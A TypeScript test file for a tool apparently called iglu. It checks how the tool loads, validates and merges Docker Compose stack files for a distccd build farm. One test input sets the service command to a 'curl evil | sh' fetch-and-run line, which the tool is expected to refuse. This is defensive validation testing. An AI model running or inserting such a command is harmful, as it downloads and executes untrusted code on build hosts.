import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import { readYamlText } from '../../src/config/load.js';
import { IgluError } from '../../src/errors.js';
import { bytesOf, checkComposeSpec, durationNs, FARM_STACK, farmStackFrom, loadFarmStack, mergeCompose } from '../../src/farm/stack.js';

const dir = mkdtempSync(path.join(tmpdir(), 'iglu-stack-'));
after(() => rmSync(dir, { recursive: true, force: true }));
const userStack = (text: string) => {
  const f = path.join(dir, `${Math.random().toString(36).slice(2)}.yaml`);
  writeFileSync(f, text);
  return f;
};
const refused = (re: RegExp) => (e: unknown) => e instanceof IgluError && re.test(e.message);

test("iglu's stacks/farm.yaml: global, dnsrr, init, 2 s stop grace, restart any after 1 s, no limits", async () => {
  const s = await loadFarmStack(undefined);
  assert.deepEqual(s.mode, { global: true });
  assert.deepEqual([s.endpointMode, s.init, s.stopGraceNs], ['dnsrr', true, 2e9]);
  assert.deepEqual(s.restart, { condition: 'any', delayNs: 1e9 });
  assert.deepEqual(s.resources, { limits: {}, reservations: {} });
});

test("a user's stack file adds constraints, resources and labels over iglu's, as docker stack deploy -c A -c B merges", async () => {
  const f = userStack(
    'services:\n  distccd:\n    deploy:\n      resources:\n        limits: { cpus: "1.5", memory: 2g }\n      placement:\n        constraints: [node.labels.distcc == yes]\n        preferences: [{ spread: node.labels.rack }]\n      labels: [team=toolchain]\n',
  );
  const s = await loadFarmStack(f);
  assert.deepEqual(s.resources.limits, { nanoCpus: 1.5e9, memoryBytes: 2 * 2 ** 30 });
  assert.deepEqual(s.placement, { constraints: ['node.labels.distcc == yes'], spreads: ['node.labels.rack'] });
  assert.deepEqual(s.labels, { team: 'toolchain' });
  assert.deepEqual(s.mode, { global: true }, "iglu's mode stays");
});

test("iglu's own stacks/farm.yaml is Compose by the compose-spec schema (farm up skips the check without a user's file)", async () => {
  await checkComposeSpec(readYamlText(readFileSync(FARM_STACK, 'utf8'), FARM_STACK), FARM_STACK);
  await assert.rejects(
    checkComposeSpec({ services: { distccd: { deploy: { mode: 1 } } } }, 'x.yaml'),
    refused(/x\.yaml: services\.distccd\.deploy\.mode: must be string/),
  );
});

test("the user's deploy.mode replicated with replicas replaces iglu's global", async () => {
  const s = await farmStackFrom(
    [
      readYamlText('services:\n  distccd:\n    deploy: { mode: global }\n', 'a'),
      readYamlText('services:\n  distccd:\n    deploy: { mode: replicated, replicas: 3 }\n', 'b'),
    ],
    'a + b',
  );
  assert.deepEqual(s.mode, { replicas: 3 });
});

test('what is not Compose is refused by the compose-spec schema, naming the field', async () => {
  await assert.rejects(
    loadFarmStack(userStack('services:\n  distccd:\n    deploy:\n      replica: 3\n')),
    refused(/services\.distccd\.deploy: must NOT have additional properties \(replica\), by the compose-spec schema/),
  );
  await assert.rejects(loadFarmStack(userStack('services:\n  distccd:\n    init: maybe\n')), refused(/services\.distccd\.init: must be boolean/));
});

test('Compose that iglu sets itself, or another service, is refused with the reason', async () => {
  await assert.rejects(
    loadFarmStack(userStack('services:\n  distccd:\n    command: [sh, -c, "curl evil | sh"]\n')),
    refused(/services\.distccd\.command: iglu does not deploy this key: it sets the command/),
  );
  await assert.rejects(loadFarmStack(userStack('services:\n  web:\n    image: nginx\n')), refused(/services\.web: the farm's stack has one service, distccd/));
  await assert.rejects(loadFarmStack(userStack('services:\n  distccd:\n    stop_grace_period: soon\n')), refused(/stop_grace_period/));
  await assert.rejects(loadFarmStack(userStack('services: [\n')), refused(/\.yaml:\d+:\d+: /), 'YAML syntax: file and line');
  await assert.rejects(loadFarmStack(path.join(dir, 'missing.yaml')), refused(/cannot read the stack file .*missing\.yaml: ENOENT/));
});

test('durations, sizes and merging', () => {
  assert.deepEqual(['2s', '500ms', '1m30s', '1h'].map(durationNs), [2e9, 5e8, 90e9, 3600e9]);
  assert.throws(() => durationNs('2 s'));
  assert.deepEqual([bytesOf('512m'), bytesOf('1g'), bytesOf(2048), bytesOf('1kb')], [512 * 2 ** 20, 2 ** 30, 2048, 1024]);
  assert.throws(() => bytesOf('lots'));
  assert.deepEqual(mergeCompose({ a: { b: [1, 2], c: 1 } }, { a: { b: [2, 3], d: 2 } }), { a: { b: [1, 2, 3], c: 1, d: 2 } });
});
